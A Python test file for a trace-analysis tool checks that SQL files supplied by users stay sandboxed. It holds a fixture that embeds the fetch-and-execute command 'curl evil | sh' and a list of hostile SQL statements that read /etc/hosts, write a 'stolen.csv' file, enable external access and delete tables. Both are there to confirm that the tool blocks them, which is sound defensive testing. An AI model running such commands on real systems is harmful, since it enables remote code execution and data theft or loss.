"""User SQL files: their locations and permissions."""

import json
import os
import shutil

import pytest
from every_trace import REPO
from own_queries import HEAD, LONGEST, LONGEST_ROWS, OP_SUMS, OPS, write, write_all

import tracekit
from tracekit.errors import QueryError, UsageError

pytestmark = pytest.mark.usefixtures("own_queries_only")


def test_a_folder_that_is_named(cli, trace, tmp_path):
    mine = write_all(tmp_path / "mine")
    form = ("--format", "csv")
    expected = "name,dur_ns\naten::add,3000\naten::mm,3000\n"
    assert cli("query", "longest_ops", trace, "--queries", mine, *form).stdout == expected
    assert cli("query", "longest_ops", trace, f"--queries={mine}", *form).stdout == expected
    assert cli("query", "--queries", mine, "longest_ops", trace, *form).stdout == expected
    short = cli("query", "longest_ops", "--queries", mine, "--limit", "1", trace, *form)
    assert (short.exit_code, short.stderr) == (0, "")
    assert short.stdout == "name,dur_ns\naten::add,3000\n"
    shown = cli("query", "longest_ops", "--queries", mine, "--help").stdout
    assert "Which ops took longest" in shown
    assert "--limit" in shown
    assert str(mine / "longest_ops.sql") in shown


def test_the_environment_and_the_configuration(cli, trace, tmp_path):
    missing = cli("query", "longest_ops", trace)
    assert (missing.exit_code, missing.stdout) == (5, "")
    assert missing.stderr.startswith("error: no analysis named 'longest_ops'\n")
    write_all(tmp_path / "config" / "tracekit" / "queries" / "ops")
    assert cli("query", "longest_ops", trace, "--format", "csv").exit_code == 0
    listed = cli("query", "--list", "--format", "json").json()
    assert listed[-1]["name"] == "longest_ops"
    assert listed[-1]["subject"] == "ops"
    assert listed[-1]["file"].endswith("config/tracekit/queries/ops/longest_ops.sql")
    other = write(tmp_path / "other", other_ops=LONGEST.replace("op_sums", "op_calls"))
    asked = cli("query", "other_ops", trace, env={"TRACEKIT_QUERIES": str(other)})
    assert asked.exit_code == 0


EVIL = """-- What to run?
--
-- Kind:     advice
-- Scope:    run
SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change,
    1000000000 AS cost_ns, 'curl evil | sh' AS remedy, 'curl evil | sh' AS evidence
"""


def test_a_run_folder_brings_no_sql(cli, tmp_path):
    """Not as an analysis, as advice, or in place of tracekit's SQL."""
    folder = tmp_path / "a_run"
    write_all(folder / "queries")
    write(folder / "queries", advice_evil=EVIL, timeline=EVIL)
    (folder / "rank0.json").write_text(json.dumps({"traceEvents": OPS}), "utf-8")
    shutil.copy(REPO / "sample_traces" / "pretrain_R+Z3" / "run.json", folder)
    done = cli("query", "longest_ops", folder)
    assert (done.exit_code, done.stdout) == (5, "")
    listed = cli("query", "--list", folder, "--format", "json").json()
    assert {row["file"] for row in listed} == {"tracekit"}
    for words in (("advise", folder), ("breakdown", folder), ("query", "timeline", folder)):
        done = cli(*words)
        assert "curl" not in done.stdout + done.stderr, words
    assert cli("sql", folder, "SELECT plain_sum(dur_ns) FROM op_sums").exit_code == 5
    # The user may name it, and so say that it is trusted.
    (folder / "queries" / "timeline.sql").unlink()
    named = cli("query", "longest_ops", folder, "--queries", folder / "queries")
    assert named.exit_code == 0


def test_none_replaces_another(cli, trace, tmp_path):
    """Unusable folders in the configuration do not affect other folders."""
    broken = LONGEST.replace("Scope:    trace", "Scope:    trce").replace("op_sums", "op_calls")
    config = write(
        tmp_path / "config" / "tracekit" / "queries",
        timeline=LONGEST.replace("op_sums", "op_calls"),
        longest_ops=LONGEST.replace("op_sums", "op_calls").replace("DESC", "ASC"),
        broken=broken,
    )
    mine = write_all(tmp_path / "mine")
    done = cli("query", "--list", "--queries", mine)
    taken = "tracekit already has an analysis named timeline"
    assert f"not used: {config}/timeline.sql: {taken}" in done.stderr
    assert f"longest_ops.sql: same name as {mine}/longest_ops.sql" in done.stderr
    assert "broken.sql: line 4: unknown Scope 'trce'" in done.stderr
    with tracekit.open(trace, queries=mine) as opened:
        assert opened.query("timeline").column_names[:2] == ("rank", "device")
        assert opened.query("longest_ops").rows == LONGEST_ROWS
        with pytest.raises(QueryError, match=r"broken\.sql: line 4: unknown Scope"):
            opened.query("broken")


def test_a_folder_that_is_named_must_be_right(cli, trace, tmp_path):
    mine = write(tmp_path / "mine", timeline=LONGEST)
    done = cli("query", "timeline", trace, "--queries", mine)
    assert (done.exit_code, done.stdout) == (5, "")
    assert done.stderr.splitlines()[0] == (
        f"error: {mine}/timeline.sql: tracekit already has an analysis named timeline"
    )
    done = cli("query", "timeline", trace, "--queries", tmp_path / "nowhere")
    assert (done.exit_code, done.stdout) == (2, "")
    assert "nowhere: no such folder" in done.stderr
    with pytest.raises(UsageError, match="no such folder"):
        tracekit.open(trace, cache=False, queries=tmp_path / "nowhere")


def test_sql_has_the_views_and_macros(cli, trace, tmp_path):
    mine = write_all(tmp_path / "mine")
    statement = "SELECT plain_sum(dur_ns) AS n FROM op_sums"
    assert cli("sql", "--queries", mine, "--format", "csv", trace, statement).stdout == "n\n6000\n"
    assert cli("sql", trace, statement).exit_code == 5


HARMFUL = {
    "reads a file": "SELECT count(*) AS n FROM read_text('/etc/hosts')",
    "lists files": "SELECT count(*) AS n FROM glob('/*')",
    "writes a file": "COPY (SELECT 1::BIGINT AS n) TO 'stolen.csv'",
    "changes a setting": "SET enable_external_access = TRUE",
    "loads an extension": "LOAD httpfs",
    "attaches a file": "ATTACH 'other.duckdb' AS other",
    "deletes events": "DELETE FROM event",
    "drops a table": "DROP TABLE event",
    "writes within a SELECT": "WITH gone AS (DELETE FROM event RETURNING event_id) FROM gone",
    "takes a Python object": "SELECT count(*) AS n FROM cache",
    "runs a serialized statement": "SELECT * FROM json_execute_serialized_sql('{}')",
}


@pytest.mark.parametrize("cache", [True, False])
def test_an_analysis_can_only_read_the_trace(trace, cache, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = {name.replace(" ", "_").lower(): sql for name, sql in HARMFUL.items()}
    mine = write(tmp_path / "mine", **{name: HEAD + sql for name, sql in names.items()})
    with tracekit.open(trace, queries=mine, cache=cache) as opened:
        before = opened.sql("FROM event").rows
        for name in names:
            with pytest.raises(QueryError, match=rf"{name}\.sql"):
                opened.query(name)
            assert opened.sql("FROM event").rows == before, name
    assert not (tmp_path / "stolen.csv").exists()


def test_a_macro_changes_no_figure(trace, tmp_path):
    """Neither a macro in place of a function, nor an additional macro."""
    head = "-- What?\n--\n-- Kind: function\n"
    harm = {
        "a": ("CREATE OR REPLACE MACRO sum(x) AS 0", "function sum already exists"),
        "b": ("CREATE OR REPLACE MACRO is_op(x) AS FALSE", "function is_op already exists"),
    }
    mine = tmp_path / "mine"
    for name, (text, _) in harm.items():
        macro = text.split()[4].partition("(")[0]
        files = {
            f"help_{name}": head + text,
            f"harm_{name}": HEAD + f"SELECT {macro}(1)::BIGINT AS n",
        }
        write(mine, **files)
    with tracekit.open(trace, queries=mine, cache=False) as opened:
        for name, (_, reason) in harm.items():
            with pytest.raises(QueryError, match=rf"help_{name}\.sql: .*{reason}"):
                opened.query(f"harm_{name}")
            assert opened.sql("SELECT sum(1), count(*) FROM op_calls").rows == [(3, 3)]


def test_special_files_are_not_read(trace, tmp_path):
    folder = write(
        tmp_path / "config" / "tracekit" / "queries", fine=HEAD + "SELECT 1::BIGINT AS n"
    )
    os.mkfifo(folder / "pipe.sql")
    (folder / "device.sql").symlink_to("/dev/zero")
    (folder / "bytes.sql").write_bytes(b"-- \xff\n")
    with tracekit.open(trace) as opened:
        assert opened.query("fine").rows == [(1,)]
        with pytest.raises(QueryError, match=r"bytes\.sql: not UTF-8"):
            opened.query("bytes")


CIRCLE = OP_SUMS.replace("op_calls", "{}").replace("plain_sum", "sum")


@pytest.mark.parametrize(
    ("files", "name", "message"),
    [
        (
            {
                "longest_ops": LONGEST,
                "op_sums": CIRCLE.format("more_sums"),
                "more_sums": CIRCLE.format("op_sums"),
            },
            "longest_ops",
            "op_sums → more_sums → op_sums",
        ),
        ({"odd": HEAD + "SELECT 1::INTEGER AS n"}, "odd", "declared but not returned: n BIGINT"),
    ],
)
def test_files_that_are_rejected_on_use(trace, tmp_path, files, name, message):
    mine = write(tmp_path / "mine", **files)
    with tracekit.open(trace, queries=mine) as opened, pytest.raises(QueryError, match=message):
        opened.query(name)


def test_an_invariant_that_does_not_hold_is_a_warning(trace, tmp_path, caplog):
    mine = write_all(tmp_path / "mine")
    write(mine, longest_ops=LONGEST.replace("dur_ns >= 0", "name <> 'aten::mm'"))
    with tracekit.open(trace, queries=mine) as opened:
        assert opened.query("longest_ops").rows == LONGEST_ROWS
    assert caplog.messages == [
        f"{mine}/longest_ops.sql: invariant violated in 1 of 2 rows: name <> 'aten::mm'"
    ]


REDUCING = """-- How much was computed on all devices?
--
-- Kind:    analysis
-- Scope:   run
-- Input:   timeline
-- Columns:
--   device_count  BIGINT  devices
--   window_ns     BIGINT  their windows, ns
--   busy_ns       BIGINT  of these, how long they were busy, ns
-- Keep:    busy_ns
-- Invariant: busy_ns <= window_ns
SELECT
    count(*) AS device_count,
    sum(window_ns)::BIGINT AS window_ns,
    sum(busy_ns)::BIGINT AS busy_ns
FROM timeline
"""


def test_one_that_selects_from_an_analysis(cli, trace, tmp_path):
    mine = write(tmp_path / "mine", all_devices=REDUCING)
    with tracekit.open(trace, queries=mine) as opened:
        windows = opened.query("timeline").column("window_ns")
        busy = opened.query("timeline").column("busy_ns")
        result = opened.query("all_devices")
        assert result.rows == [(len(windows), sum(windows), sum(busy))]
        assert result.keep == ("busy_ns",)
    unknown = write(tmp_path / "odd", odd=REDUCING.replace("timeline", "timelines"))
    wrong = cli("query", "odd", trace, "--queries", unknown)
    assert (wrong.exit_code, wrong.stdout) == (5, "")
    assert "Table with name timelines does not exist" in wrong.stderr
